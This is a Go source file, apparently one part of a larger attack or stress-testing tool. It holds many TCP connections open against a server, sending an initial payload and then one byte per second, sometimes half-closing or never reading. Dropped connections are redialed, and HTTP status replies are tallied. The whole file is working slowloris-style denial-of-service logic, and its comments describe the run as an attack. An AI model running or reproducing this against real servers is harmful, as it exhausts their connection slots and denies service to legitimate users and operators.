package main

import (
	"context"
	"net"
	"strconv"
	"time"
)

// A stance is what a connection does that is held, and not used.
type stance struct {
	say    []byte // at once
	nag    []byte // then one byte of it each second, over and over; empty: nothing
	shut   bool   // says that nothing more will come, and stays
	silent bool   // never reads, so the server cannot tell it anything
}

// nagging is how often a stance says a byte, and looks for the server's answer.
const nagging = time.Second

// stand holds the whole crowd. One that is cut off comes again.
func (r *raid) stand(ctx context.Context, takes func(number int) stance) {
	each(r.crowd, func(number int) {
		for r.paced.next(ctx) {
			r.tally.operation()
			l, err := r.dial(ctx, number)
			if err != nil {
				r.missed(ctx)
				continue
			}
			l.hold(ctx, takes(number))
			l.end()
		}
	})
}

// isOver reports whether the attack is at its end. Its deadline ends a connection
// that is being made a moment before it ends ctx.
func isOver(ctx context.Context) bool {
	deadline, ok := ctx.Deadline()
	return ctx.Err() != nil || ok && !time.Now().Before(deadline)
}

// missed counts a connection that could not be made.
func (r *raid) missed(ctx context.Context) {
	if !isOver(ctx) {
		r.tally.notConnected()
	}
}

// hold returns when the connection has ended, or ctx has.
func (l *line) hold(ctx context.Context, s stance) {
	if !l.take(s) {
		l.raid.cutOff(ctx)
		return
	}
	for i := 0; ctx.Err() == nil; i++ {
		if !l.await(ctx, s) {
			return
		}
		if len(s.nag) == 0 {
			continue
		}
		l.raid.tally.operation()
		if err := l.say(s.nag[i%len(s.nag):][:1]); err != nil {
			l.raid.cutOff(ctx)
			return
		}
	}
}

// cutOff counts a connection that the server ended.
func (r *raid) cutOff(ctx context.Context) {
	if !isOver(ctx) {
		r.tally.cut()
	}
}

// take says the first, and reports whether it could be said.
func (l *line) take(s stance) bool {
	if len(s.say) > 0 && l.say(s.say) != nil {
		return false
	}
	return !s.shut || l.Conn.(*net.TCPConn).CloseWrite() == nil
}

// await lets a second pass, and reports whether the connection is still there. What
// the server says meanwhile is read, unless the stance is never to read.
func (l *line) await(ctx context.Context, s stance) bool {
	if s.silent {
		return rest(ctx, nagging)
	}
	var b [512]byte
	_ = l.SetReadDeadline(time.Now().Add(nagging))
	for {
		n, err := l.Read(b[:])
		switch {
		case err == nil:
			l.raid.told(b[:n])
		case isTimeout(err):
			return true
		default:
			l.raid.cutOff(ctx)
			return false
		}
	}
}

// told counts an answer, if b begins with one.
func (r *raid) told(b []byte) {
	const before, digits = len("HTTP/1.1 "), 3
	if len(b) < before+digits || string(b[:len("HTTP/")]) != "HTTP/" {
		return
	}
	if status, err := strconv.Atoi(string(b[before : before+digits])); err == nil {
		r.tally.answered(status)
	}
}

// rest reports whether d has passed, and ctx is not done.
func rest(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-timer.C:
		return true
	}
}
